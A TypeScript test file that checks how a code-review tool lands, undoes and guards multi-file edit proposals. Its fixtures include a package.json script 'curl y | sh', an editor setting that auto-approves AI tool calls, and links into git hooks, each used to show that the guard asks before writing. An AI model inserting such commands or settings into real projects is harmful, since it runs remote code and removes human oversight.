import { beforeEach, describe, expect, it } from "vitest";
import { FailureError } from "../../src/core/failure-error";
import type { FileProposal } from "../../src/protocol/proposal";
import { runAsMarkdown } from "../../src/runs/export-run";
import { parseRunLines, runLine } from "../../src/runs/run-lines";
import { RunHistory } from "../../src/session/history/run-history";
import { Decisions } from "../../src/session/review/decisions";
import { type KeptPlace, type Landing, textOf } from "../../src/session/review/landing";
import { type ReviewedFile, unrejectedText } from "../../src/session/review/proposals";
import type { GuardedLanding, ReviewFront } from "../../src/session/review/review-front";
import { edit, failureOf, statesIn } from "./decided";

const folder = "file:///p/";

/** Files in memory, each by its path; a landing is one step that can be undone. */
class FilesFront implements ReviewFront {
  readonly steps: (readonly string[])[] = [];
  readonly landed: (readonly Landing[])[] = [];
  readonly asked: GuardedLanding[] = [];
  readonly shown: string[] = [];
  /** What the person says about a guarded file. */
  say: (guarded: GuardedLanding) => boolean = () => false;
  /** Where links lead. */
  links: Record<string, KeptPlace> = {};
  beforeLanding: () => void = () => {};

  constructor(readonly files: Map<string, string>) {}

  async proposedText(reviewed: ReviewedFile) {
    return unrejectedText(reviewed);
  }
  async rewriteProposed() {}
  isOpen() {
    return false;
  }
  async textNow({ file }: ReviewedFile) {
    return this.files.get(file.path) ?? (file.change === "create" ? "" : undefined);
  }
  async textToChange({ file }: ReviewedFile) {
    const text = this.files.get(file.path);
    if (file.change === "create" && text !== undefined)
      throw new FailureError({ kind: "documentConflict", path: file.path });
    return text;
  }
  async keptPlace({ file }: ReviewedFile) {
    return this.links[file.path] ?? { path: `/p/${file.path}`, leadsOut: false };
  }
  async confirmGuarded(guarded: GuardedLanding) {
    this.asked.push(guarded);
    return this.say(guarded);
  }
  async land(landings: readonly Landing[]) {
    this.beforeLanding();
    this.beforeLanding = () => {};
    for (const landing of landings)
      if (landing.kind !== "create" && landing.before !== this.files.get(landing.path))
        return "moved" as const;
    for (const landing of landings)
      if (landing.kind === "remove") this.files.delete(landing.path);
      else this.files.set(landing.path, textOf(landing));
    this.landed.push(landings);
    this.steps.push(landings.map(({ path }) => path));
    return "landed" as const;
  }
  async takeBack() {
    const landings = this.landed.at(-1) ?? [];
    if (landings.some((landing) => this.files.get(landing.path) !== textOf(landing))) return false;
    for (const landing of landings) {
      if (landing.kind === "create") this.files.delete(landing.path);
      else this.files.set(landing.path, landing.before);
    }
    this.landed.pop();
    this.shown.push("own undo");
    return true;
  }
  async showConflict() {
    this.shown.push("conflict");
  }
  async showNext() {
    this.shown.push("next");
  }
  async concluded() {
    this.shown.push("concluded");
  }
}

const one = "1\n2\n3\n4\n5\n6\n7\n8\n9\n";
const other = "a\nb\nc\nd\ne\nf\ng\nh\ni\n";

const inOne = edit("one.txt", one, one.replace("2", "two"));
const inOther = edit("other.txt", other, other.replace("b", "B"));
const created = edit("new.txt", "", "new\n");

let history: RunHistory;
let front: FilesFront;
let decisions: Decisions;

function propose(...files: readonly FileProposal[]): void {
  history = new RunHistory(undefined);
  front = new FilesFront(
    new Map(files.flatMap(({ path, base }) => (base === "" ? [] : [[path, base]]))),
  );
  decisions = new Decisions(history, front, (runId, event) => history.add(runId, event));
  history.add("run", { kind: "proposal", proposal: { id: "p", files } });
}

const undone = { kind: "hunkState", at: 2, proposalId: "p", state: "undone" } as const;

const states = (): string[] => statesIn(history);

describe("a proposal of several files", () => {
  beforeEach(() => propose(inOne, inOther, created));

  it("lands as one step, each file rebased on what it is now", async () => {
    front.files.set("other.txt", other.replace("h", "mine"));
    await decisions.accept();
    expect(front.steps).toEqual([["one.txt", "other.txt", "new.txt"]]);
    expect(Object.fromEntries(front.files)).toEqual({
      "one.txt": one.replace("2", "two"),
      "other.txt": other.replace("h", "mine").replace("b", "B"),
      "new.txt": "new\n",
    });
    expect(states()).toEqual(["accepted"]);
  });

  it("lands in none of them where one has a conflict, and waits with all that it holds", async () => {
    front.files.set("other.txt", other.replace("b", "mine"));
    expect(await failureOf(decisions.accept())).toBe("documentConflict");
    expect(front.steps).toEqual([]);
    expect(front.files.get("one.txt")).toBe(one);
    expect(front.files.get("other.txt")).toBe(other.replace("b", "mine"));
    expect(states()).toEqual(["conflict"]);
    front.files.set("other.txt", other);
    await decisions.accept();
    expect(front.steps).toEqual([["one.txt", "other.txt", "new.txt"]]);
  });

  it("never lands on a file that has come to be where a new one was to be", async () => {
    front.files.set("new.txt", "mine\n");
    expect(await failureOf(decisions.accept())).toBe("documentConflict");
    expect(front.files.get("new.txt")).toBe("mine\n");
    expect(front.files.get("one.txt")).toBe(one);
  });

  it("is planned anew when one of the files changes in between", async () => {
    front.beforeLanding = () => front.files.set("one.txt", `mine\n${one}`);
    await decisions.accept();
    expect(front.files.get("one.txt")).toBe(`mine\n${one.replace("2", "two")}`);
    expect(front.steps).toHaveLength(1);
  });

  it("can be decided change by change over all its files", async () => {
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
    expect(front.steps).toEqual([["other.txt"]]);
    await decisions.rejectBlock({ proposalId: "p", fileIndex: 2, block: 0 });
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 0 });
    expect(states()).toEqual(["1/0 accepted", "2/0 rejected", "0/0 accepted", "accepted"]);
    expect(front.files.has("new.txt")).toBe(false);
  });

  it("is kept in the log and exported with all its files", () => {
    const lines = history.eventsOf("run").map(runLine).join("\n");
    expect(parseRunLines(lines)).toEqual(history.eventsOf("run"));
    const page = runAsMarkdown(history.stateOf("run"));
    for (const path of ["one.txt", "other.txt", "new.txt"]) expect(page).toContain(path);
  });
});

describe("what was accepted", () => {
  const uris = new Set(["one.txt", "other.txt", "new.txt"].map((path) => folder + path));
  /** The first file changes in two places. */
  const twice = one.replace("2", "two").replace("8", "eight");
  /** A file becomes this, and that is seen. */
  const becomes = async (path: string, text: string): Promise<void> => {
    front.files.set(path, text);
    await decisions.observe(uris);
  };
  const whole = (): string => {
    const part = history.stateOf("run").parts.at(-1);
    return part?.kind === "proposal" ? part.state : "";
  };

  beforeEach(async () => {
    propose(edit("one.txt", one, twice), inOther, created);
    await decisions.accept();
    await decisions.observe(uris);
    expect(states()).toEqual(["accepted"]);
  });

  it("is undone when it is gone from its files, and accepted again when it is back", async () => {
    front.files.set("one.txt", one);
    front.files.set("other.txt", other);
    front.files.delete("new.txt");
    await decisions.observe(uris);
    expect(states()).toEqual(["accepted", "0/0 undone", "0/1 undone", "1/0 undone", "2/0 undone"]);
    expect(whole()).toBe("undone");
    expect(runAsMarkdown(history.stateOf("run"))).not.toContain("Ledger");
    await becomes("one.txt", twice);
    expect(whole()).toBe("accepted");
    expect(states().slice(5)).toEqual(["0/0 accepted", "0/1 accepted"]);
  });

  it("is told block by block and file by file, in the ledger too", async () => {
    front.files.set("one.txt", one.replace("8", "eight"));
    front.files.delete("new.txt");
    await decisions.observe(uris);
    expect(states().slice(1)).toEqual(["0/0 undone", "2/0 undone"]);
    expect(whole()).toBe("accepted");
    const page = runAsMarkdown(history.stateOf("run"));
    expect(page).toContain("## Ledger of one.txt, other.txt\n");
    expect(page).toContain("- change 1: undone\n- change 2: accepted");
  });

  it("stays accepted whatever is written around it or made of it, for as long as it is not as before", async () => {
    await becomes("one.txt", `mine\n${twice.replace("two", "two and more").replace("5", "")}`);
    expect(states()).toEqual(["accepted"]);
    await becomes("one.txt", `mine\n${twice.replace("two", "2").replace("5", "")}`);
    expect(states().slice(1)).toEqual(["0/0 undone"]);
  });

  it("is taken back in one step by its id or as the last one accepted, which is known at once", async () => {
    await decisions.undo();
    expect(Object.fromEntries(front.files)).toEqual({ "one.txt": one, "other.txt": other });
    expect(whole()).toBe("undone");
    expect(states()).toEqual(["accepted", "0/0 undone", "0/1 undone", "1/0 undone", "2/0 undone"]);
    expect(await failureOf(decisions.undo("p"))).toBe("proposalGone");
  });

  it("is taken back beside what the person wrote since, which stays", async () => {
    front.files.set("one.txt", `mine\n${twice}`);
    await decisions.undo("p");
    expect(Object.fromEntries(front.files)).toEqual({
      "one.txt": `mine\n${one}`,
      "other.txt": other,
    });
    expect(whole()).toBe("undone");
  });

  it("is taken back by another window too, which knows no undo for it", async () => {
    const after = new Decisions(history, front, (runId, event) => history.add(runId, event));
    await after.undo();
    expect(Object.fromEntries(front.files)).toEqual({ "one.txt": one, "other.txt": other });
    expect(front.shown).not.toContain("own undo");
    expect(whole()).toBe("undone");
    await after.accept("p");
    expect(front.files.get("one.txt")).toBe(twice);
  });

  it("is taken back whole where it was accepted change by change", async () => {
    propose(edit("one.txt", one, twice));
    for (const block of [0, 1])
      await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block });
    await decisions.undo();
    expect(front.files.get("one.txt")).toBe(one);
  });

  it("is taken back with what the person changed in the review, and without what they rejected", async () => {
    propose(edit("one.txt", one, twice));
    await decisions.rejectBlock({ proposalId: "p", fileIndex: 0, block: 1 });
    front.proposedText = async () => one.replace("2", "two of mine").replace("5", "five");
    await decisions.accept();
    front.files.set("one.txt", `mine\n${front.files.get("one.txt")}`);
    await decisions.undo();
    expect(front.files.get("one.txt")).toBe(`mine\n${one}`);
  });

  it("stays where it is not as it was, and it is said which line is in the way", async () => {
    front.files.set("one.txt", `mine\n${twice.replace("eight", "eight of mine")}`);
    const refused = await decisions.undo().catch((thrown) => thrown.failure);
    expect(refused).toEqual({ kind: "undoConflict", path: "one.txt", line: 9 });
    expect(front.files.get("other.txt")).toBe(inOther.proposed);
    front.files.set("one.txt", twice);
    front.files.set("new.txt", "new\nand mine\n");
    const created = await decisions.undo().catch((thrown) => thrown.failure);
    expect(created).toEqual({ kind: "undoConflict", path: "new.txt", line: 2 });
    expect(states()).toEqual(["accepted"]);
  });

  it("stays undone when the person writes something of their own there", async () => {
    await becomes("other.txt", other);
    await becomes("other.txt", other.replace("b", "my own"));
    expect(states().slice(1)).toEqual(["1/0 undone"]);
  });

  it("says nothing where a file is gone or cannot be read, or has not changed", async () => {
    front.files.delete("other.txt");
    await decisions.observe(uris);
    front.files.set("other.txt", other);
    await decisions.observe(new Set([`${folder}one.txt`]));
    expect(states()).toEqual(["accepted"]);
  });

  it("can be taken again where it was undone, and only there", async () => {
    await becomes("other.txt", other.replace("h", "mine"));
    await decisions.accept("p");
    expect(front.steps.at(-1)).toContain("other.txt");
    expect(front.files.get("other.txt")).toBe(other.replace("b", "B").replace("h", "mine"));
    expect(front.files.get("one.txt")).toBe(twice);
    expect(whole()).toBe("accepted");
    expect(await failureOf(decisions.accept("p"))).toBe("proposalGone");
  });

  it("is a conflict where the person changed those lines after they undid it", async () => {
    front.files.set("other.txt", other.replace("b", "my own"));
    history.add("run", { ...undone, fileIndex: 1, block: 0 });
    expect(await failureOf(decisions.accept("p"))).toBe("documentConflict");
    expect(front.files.get("other.txt")).toBe(other.replace("b", "my own"));
  });

  it("is back as the person had changed it in the review", async () => {
    propose(edit("one.txt", one, twice));
    front.proposedText = async () => twice.replace("two", "two of mine");
    await decisions.accept();
    for (const text of [one, twice.replace("two", "two of mine")]) await becomes("one.txt", text);
    expect(states().slice(1)).toEqual(["0/0 undone", "0/1 undone", "0/0 accepted", "0/1 accepted"]);
  });
});

describe("a log of 0.1.0 with a proposal of one file", () => {
  it("loads as it did", () => {
    const proposal = { id: "p", files: [inOne] };
    const line = JSON.stringify({ kind: "proposal", proposal });
    expect(parseRunLines(line)).toEqual([{ kind: "proposal", proposal }]);
  });
});

describe("a guarded file in a proposal", () => {
  const path = ".vscode/settings.json";
  const settings = '{\n  "a": 1\n}\n';
  const unsafe = '{\n  "a": 1,\n  "chat.tools.autoApprove": true\n}\n';
  beforeEach(() => propose(inOne, edit(path, settings, unsafe)));

  it("is no part of accepting: the rest lands, and it waits", async () => {
    await decisions.accept();
    expect(front.steps).toEqual([["one.txt"]]);
    expect(front.files.get(".vscode/settings.json")).toBe(settings);
    const asked = front.asked.map(({ landing, guard }) => [landing.path, guard.kind]);
    expect(asked).toEqual([[path, "editorSettings"]]);
    expect(states()).toEqual(["0/0 accepted"]);
    // Asked again, it alone is left.
    front.say = () => true;
    await decisions.accept();
    expect(front.steps).toEqual([["one.txt"], [".vscode/settings.json"]]);
    expect(states().at(-1)).toBe("accepted");
  });

  it("lands with the rest as one step when it is confirmed by its name", async () => {
    front.say = ({ landing }) => landing.path === ".vscode/settings.json";
    await decisions.accept();
    expect(front.steps).toEqual([["one.txt", ".vscode/settings.json"]]);
  });

  it("is asked about for its single changes too", async () => {
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
    expect(front.steps).toEqual([]);
    expect(states()).toEqual([]);
    front.say = () => true;
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
    expect(front.files.get(".vscode/settings.json")).toBe(unsafe);
  });

  it("is asked about anew when another text would land than the one that was confirmed", async () => {
    front.say = () => true;
    front.beforeLanding = () => front.files.set(".vscode/settings.json", `// mine\n${settings}`);
    await decisions.accept();
    expect(front.asked).toHaveLength(2);
    expect(front.files.get(".vscode/settings.json")).toBe(`// mine\n${unsafe}`);
  });
});

describe("a file that is not where it seems to be", () => {
  beforeEach(() => propose(edit("notes.txt", one, one.replace("2", "two"))));

  it("is asked about when its link leads to a guarded place", async () => {
    front.links = { "notes.txt": { path: "/p/.git/hooks/pre-commit", leadsOut: false } };
    await decisions.accept();
    expect(front.asked.map(({ guard }) => guard.kind)).toEqual(["repository"]);
    expect(front.files.get("notes.txt")).toBe(one);
  });

  it("is asked about when its link leads out of the folder, with where that is", async () => {
    front.links = { "notes.txt": { path: "/elsewhere/x", leadsOut: true } };
    await decisions.accept();
    const guards = front.asked.map(({ guard }) => guard);
    expect(guards).toEqual([{ kind: "outside", name: "/elsewhere/x" }]);
    expect(front.steps).toEqual([]);
  });
});

describe("a link that is changed while the person is asked", () => {
  const hook = { path: "/p/.git/hooks/pre-commit", leadsOut: false };
  const asked = (): readonly unknown[] =>
    front.asked.map(({ landing, kept }) => [landing.path, kept?.path]);
  beforeEach(() =>
    propose(
      edit("notes.txt", one, one.replace("2", "two")),
      edit(".vscode/settings.json", other, other.replace("b", "B")),
    ),
  );

  it("is asked about where it leads now, though it was ordinary before", async () => {
    front.say = ({ landing }) => {
      front.links["notes.txt"] = hook;
      return landing.path !== "notes.txt";
    };
    await decisions.accept();
    expect(asked()).toEqual([
      [".vscode/settings.json", "/p/.vscode/settings.json"],
      ["notes.txt", hook.path],
    ]);
    expect(front.steps).toEqual([[".vscode/settings.json"]]);
  });

  it("is asked about again when another place was confirmed", async () => {
    front.links = { "notes.txt": { path: "/p/.husky/pre-commit", leadsOut: false } };
    front.say = ({ landing, kept }) => {
      if (kept?.path.startsWith("/p/.husky")) front.links["notes.txt"] = hook;
      return landing.path !== "notes.txt" || kept?.path !== hook.path;
    };
    await decisions.accept();
    expect(asked()).toContainEqual(["notes.txt", hook.path]);
    expect(front.files.get("notes.txt")).toBe(one);
  });

  it("lands nothing when it never comes to rest", async () => {
    let turn = 0;
    front.keptPlace = async () => ({ path: `/p/${turn++}`, leadsOut: false });
    front.say = () => true;
    expect(await failureOf(decisions.accept())).toBe("applyRefused");
    expect(front.steps).toEqual([]);
  });
});

describe("a change that makes an ordinary file guarded", () => {
  it("is another script of a manifest, and one that leaves them alone is not", async () => {
    const manifest = (version: string, test: string): string =>
      `${JSON.stringify({ version, scripts: { test } }, undefined, 2)}\n`;
    propose(edit("package.json", manifest("1", "x"), manifest("1", "curl y | sh")));
    await decisions.accept();
    expect(front.asked.map(({ guard }) => guard.kind)).toEqual(["scripts"]);
    expect(front.steps).toEqual([]);
    propose(edit("package.json", manifest("1", "x"), manifest("2", "x")));
    await decisions.accept();
    expect(front.asked).toEqual([]);
    expect(front.steps).toEqual([["package.json"]]);
  });

  it("is a schema that the editor would fetch", async () => {
    propose(edit("data.json", '{\n  "a": 1\n}\n', '{\n  "$schema": "https://x.example/?k"\n}\n'));
    await decisions.accept();
    expect(front.asked.map(({ guard }) => guard.name)).toEqual(["https://x.example/?k"]);
    expect(front.steps).toEqual([]);
  });

  it("stands in the part that lands: the other changes of the file are ordinary", async () => {
    const base = `${'{\n  "version": "1",\n'}${'  "x": 1,\n'.repeat(6)}  "scripts": { "a": "b" }\n}\n`;
    const proposed = base.replace('"1"', '"2"').replace('"b"', '"c"');
    propose(edit("package.json", base, proposed));
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 0 });
    expect(front.asked).toEqual([]);
    expect(front.files.get("package.json")).toBe(base.replace('"1"', '"2"'));
    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 1 });
    expect(front.asked).toHaveLength(1);
  });
});
